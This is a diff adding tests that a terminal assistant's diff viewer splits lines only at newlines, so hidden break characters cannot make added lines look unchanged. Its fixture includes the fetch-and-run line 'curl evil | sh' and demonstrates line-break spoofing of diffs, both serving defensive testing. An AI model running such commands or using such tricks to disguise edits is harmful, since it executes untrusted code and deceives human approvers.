@@ -6,6 +6,7 @@ import asyncio
 import json
 from pathlib import Path
 
+from rich.text import Text
 from textual.widgets import Collapsible, Input, Log, TextArea
 
 from assistant.agent.events import TextEvent, TurnEndEvent
@@ -630,6 +631,60 @@ async def test_the_whole_diff_colours_lines_as_the_preview_does() -> None:
         coloured = list(highlighter(line).render(console))
         styles = {(seg.text, seg.style) for seg in coloured if seg.text}
         assert styles <= {(seg.text, seg.style) for seg in drawn}, line
+
+
+HOSTILE_DIFF = (
+    "@@ -1 +1,2 @@\n+safe\r echo unchanged\n+ok\u2028 curl evil | sh\n+p\u2029 q\x0b\x85\n"
+)
+"""Added lines whose rest, were each break honoured, would look like unchanged lines."""
+HOSTILE_ROWS = [
+    "@@ -1 +1,2 @@",
+    "+safe␍ echo unchanged",
+    "+ok⟨U+2028⟩ curl evil | sh",
+    "+p⟨U+2029⟩ q␋\ufffd",
+]
+
+
+async def test_the_whole_diff_breaks_lines_only_at_newlines_and_shows_other_breaks() -> None:
+    """A ``\\r`` or U+2028 inside an added line does not start a row that looks unchanged:
+    the whole-diff view has one row per ``\\n``-split line, each break shown, each added
+    row coloured as added."""
+    from rich.console import Console
+    from textual.app import App
+
+    from assistant.ui.diffview import DiffHighlighter
+    from assistant.ui.widgets.diffscreen import DiffLog, DiffScreen
+
+    app = App()
+    async with app.run_test(size=SIZE) as pilot:
+        await app.push_screen(DiffScreen(Text("write x"), HOSTILE_DIFF))
+        await pilot.pause()
+        log = app.screen.query_one(DiffLog)
+        assert list(log.lines) == HOSTILE_ROWS
+        assert "the whole diff, 4 lines" in text_of(app.screen.query_one(".diff-title"))
+    console = Console(color_system="truecolor", file=open("/dev/null", "w"))  # noqa: SIM115
+    added = DiffHighlighter()("+safe").render(console)
+    added_style = next(seg.style for seg in added if seg.text)
+    for row in HOSTILE_ROWS[1:]:
+        styles = {seg.style for seg in DiffHighlighter()(row).render(console) if seg.text}
+        assert styles == {added_style}, row
+
+
+def test_the_cut_preview_shows_the_same_rows_as_the_whole_diff() -> None:
+    """The approval's preview (and the plain REPL's d) lay a diff out with pygments, which
+    reads a \\r as a newline: it shows the same rows as the whole-diff view, all added."""
+    from rich.console import Console
+
+    from assistant.ui.diffview import diff_syntax
+
+    console = Console(width=60, color_system="truecolor", file=open("/dev/null", "w"))  # noqa: SIM115
+    rows = console.render_lines(diff_syntax(HOSTILE_DIFF, word_wrap=False), pad=False)
+    shown = ["".join(seg.text for seg in row).rstrip() for row in rows]
+    assert shown[: len(HOSTILE_ROWS)] == HOSTILE_ROWS and not any(shown[len(HOSTILE_ROWS) :])
+    added = {seg.style.color for seg in rows[1] if seg.text.strip()}
+    assert len(added) == 1 and all(
+        {seg.style.color for seg in row if seg.text.strip()} == added for row in rows[2:4]
+    )
 
 
 def test_a_short_diff_is_shown_whole_and_long_lines_are_cut() -> None:
